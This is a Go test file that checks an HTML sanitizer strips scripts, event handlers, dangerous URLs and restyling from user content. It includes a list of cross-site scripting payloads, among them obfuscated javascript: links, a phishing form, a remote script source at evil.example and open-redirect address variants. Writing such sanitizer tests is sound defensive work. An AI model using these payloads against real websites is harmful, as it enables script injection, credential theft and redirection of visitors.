package content_test

import (
	"encoding/json"
	"html"
	"os"
	"strings"
	"testing"

	"larek/internal/content"
)

// attacks are ways to run a script, restyle the page or leave it.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<math><mtext><script>alert(1)</script></mtext></math>`,
	`<p onclick="alert(1)">x</p>`, `<p ONMOUSEOVER=alert(1)>x</p>`, `<p/onclick=alert(1)>x</p>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`, `<a href="java&#115;cript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="java\tscript:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data=x></object>`, `<embed src=x>`,
	`<style>body{display:none}</style>`, `<p style="position:fixed;inset:0">x</p>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<base href=//evil.example>`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><input name=p><button>Войти</button></form>`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<p title="a" onclick=alert(1)>x</p>`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`, `<!--><script>alert(1)</script>-->`,
	`<script>alert(1)`, `<script/x>alert(1)</script >`, `<img src="x" onerror="alert(1)"/`, `<p title="a"onclick="alert(1)">x</p>`, `<p title='"><img src=x onerror=alert(1)>'>x</p>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<a href="java&#x09;script:alert(1)">x</a>`,
	`<a href="&#106;avascript&colon;alert(1)">x</a>`, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`, `<div class="modal" style="inset:0">x</div>`,
	`<![CDATA[<script>alert(1)</script>]]>`, `<?php <script>alert(1)</script> ?>`, "<\x00script>alert(1)</script>",
	`<video><source onerror=alert(1)></video>`, `<details open ontoggle=alert(1)>x</details>`, `<a href="//evil.example" target=_top onfocus=alert(1) autofocus>x</a>`,
}

func TestCleanHTMLLeavesNothingThatRuns(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks {
		got := strings.ToLower(content.CleanHTML("<p>до</p>" + attack + "<p>после</p>"))
		for _, bad := range []string{"<script", "<svg", "<math", "<iframe", "<object", "<embed", "<style", "style=", "<link", "<base", "<meta", "<form", "<input", "<img", "<template", " on", "javascript:", "vbscript:", "data:", "<noscript", "<textarea", "<video", "<details"} {
			if strings.Contains(got, bad) && !onlyAsText(got, bad) {
				t.Errorf("CleanHTML(%q) = %q, which has %q", attack, got, bad)
			}
		}
		if !strings.Contains(got, "<p>до</p>") {
			t.Errorf("CleanHTML(%q) = %q, want the text before it", attack, got)
		}
	}
}

// A link leads into the shop by a path of it, and out of it only where its address says so.
func TestCleanHTMLLeavesNoLinkThatLooksLikeAPath(t *testing.T) {
	t.Parallel()
	for _, address := range []string{"//evil.example", "///evil.example", `/\evil.example`, `\\evil.example`, "/\t/evil.example", "/&#9;/evil.example", "/&#47;evil.example", " //evil.example", "https:evil.example", "evil.example"} {
		if got := content.CleanHTML(`<a href="` + address + `">x</a>`); got != "x" {
			t.Errorf("%q: got %q, want the text alone", address, got)
		}
	}
	for _, address := range []string{"/", "/ru/info", "/ru?a=1&amp;b=2", "#part", "https://larek.example/ru", "http://larek.example", "mailto:a@b.example", "tel:+79990000000"} {
		if want, got := `<a href="`+address+`">x</a>`, content.CleanHTML(`<a href="`+address+`">x</a>`); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

// onlyAsText reports whether a word occurs only outside of tags, where it is
// harmless.
func onlyAsText(html, word string) bool {
	for rest := html; ; {
		_, after, found := strings.Cut(rest, "<")
		if !found {
			return true
		}
		tag, next, _ := strings.Cut(after, ">")
		if strings.Contains("<"+tag, word) {
			return false
		}
		rest = next
	}
}

func TestCleanHTMLKeepsOurPicturesAlone(t *testing.T) {
	t.Parallel()
	const ours = `<p><img src="/media/0123456789abcdefghjkmnpqrs/960.webp" alt="Где взять ID" width="960" height="540" loading="lazy"></p>`
	for written, want := range map[string]string{
		ours: ours,
		`<p><img height="540" onerror="alert(1)" src="/media/0123456789abcdefghjkmnpqrs/960.webp" style="x" alt="Где взять ID" width="960" id="a"/></p>`: ours,
		`<img src="/media/0123456789abcdefghjkmnpqrs/960.webp" width="960">`:                                                                             "",
		`<img src="/media/0123456789abcdefghjkmnpqrs/961.webp" width="960" height="1">`:                                                                  "",
		`<img src="/api/auth/sign_out/" width="960" height="1">`:                                                                                         "",
		`<img src="https://evil.example/media/0123456789abcdefghjkmnpqrs/960.webp" width="1" height="1">`:                                                "",
		`<img src="//evil.example/x.png" width="1" height="1" title="x">`:                                                                                "",
	} {
		if got := content.CleanHTML(written); got != want {
			t.Errorf("CleanHTML(%s)\ngot  %s\nwant %s", written, got, want)
		}
	}
}

// What the console's editor writes is stored as it is, and it makes no link that would be taken out: its own test
// reads the same file.
func TestCleanHTMLKeepsWhatTheEditorWrites(t *testing.T) {
	t.Parallel()
	raw, err := os.ReadFile("testdata/editor.json")
	if err != nil {
		t.Fatal(err)
	}
	var agreed struct {
		HTML    []string          `json:"html"`
		Links   map[string]string `json:"links"`
		Refused []string          `json:"refused"`
	}
	if err := json.Unmarshal(raw, &agreed); err != nil {
		t.Fatal(err)
	}
	for _, want := range agreed.HTML {
		if got := content.CleanHTML(want); got != want {
			t.Errorf("got  %s\nwant %s", got, want)
		}
	}
	link := func(address string) string { return `<a href="` + html.EscapeString(address) + `">x</a>` }
	for _, address := range agreed.Links {
		if got := content.CleanHTML(link(address)); got != link(address) {
			t.Errorf("got %s, want %s", got, link(address))
		}
	}
	for _, address := range agreed.Refused {
		if got := content.CleanHTML(link(address)); got != "x" {
			t.Errorf("%q: got %s, want the text alone", address, got)
		}
	}
}

// A description of a picture is a sentence; whatever else is in it stays text.
func TestCleanHTMLKeepsDescriptionsOfPicturesAsText(t *testing.T) {
	t.Parallel()
	const before, after = `<img src="/media/0123456789abcdefghjkmnpqrs/320.webp" alt="`, `" width="320" height="200" loading="lazy">`
	for written, want := range map[string]string{
		`Где взять ID: меню «Профиль» — шаг 1?`:            `Где взять ID: меню «Профиль» — шаг 1?`,
		`x&quot; onerror=&quot;alert(1)`:                   `x&#34; onerror=&#34;alert(1)`,
		`x&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;`: `x&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;`,
		`x src=&quot;https://evil.example/x.png&quot;`:     `x src=&#34;https://evil.example/x.png&#34;`,
		`&amp;quot; &amp;lt;`:                              `&amp;quot; &amp;lt;`,
		`a<img src=x onerror=alert(1)>`:                    `a&lt;img src=x onerror=alert(1)&gt;`,
		"две\nстроки":                                      "",
		strings.Repeat("я", 300):                           strings.Repeat("я", 300),
		strings.Repeat("я", 301):                           "",
	} {
		got := content.CleanHTML(before + written + `" width="320" height="200">`)
		if got != before+want+after {
			t.Errorf("alt=%q\ngot  %s\nwant %s", written, got, before+want+after)
		}
		if again := content.CleanHTML(got); again != got {
			t.Errorf("cleaned twice: got %s, want %s", again, got)
		}
	}
}

func TestCleanHTMLPreservesAllowedHTML(t *testing.T) {
	t.Parallel()
	const article = `<p>Ларёк <b>рядом</b>.</p><h2 id="a">Раздел</h2><ul><li>раз</li></ul><table><tr><td colspan="2">1</td></tr></table><p><a href="https://larek.example/ru">сюда</a>, <a href="/ru/info">туда</a>, <a href="mailto:a@b.example">письмо</a></p>`
	if got := content.CleanHTML(article); got != article {
		t.Errorf("CleanHTML changed an article:\ngot  %s\nwant %s", got, article)
	}
	if got := content.CleanHTML(content.CleanHTML(article)); got != article {
		t.Errorf("cleaned twice: got %s, want %s", got, article)
	}
}
